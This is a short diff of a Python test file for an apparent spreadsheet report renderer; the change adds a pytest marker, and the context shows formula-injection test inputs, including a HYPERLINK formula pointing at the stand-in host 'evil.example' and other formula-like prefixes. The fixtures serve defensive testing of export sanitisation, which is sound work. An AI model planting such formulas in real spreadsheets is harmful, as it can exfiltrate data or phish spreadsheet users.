@@ -35,6 +35,8 @@ from eduboard.registry.models import Institution
 from eduboard.reports.present import Block, Cell, Figure, Presentation, Section, Table
 from eduboard.reports.renderers import render_xlsx
 
+pytestmark = pytest.mark.one_database
+
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x","Click")'
 FORMULA_LIKE = [FORMULA_NAME, "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
 
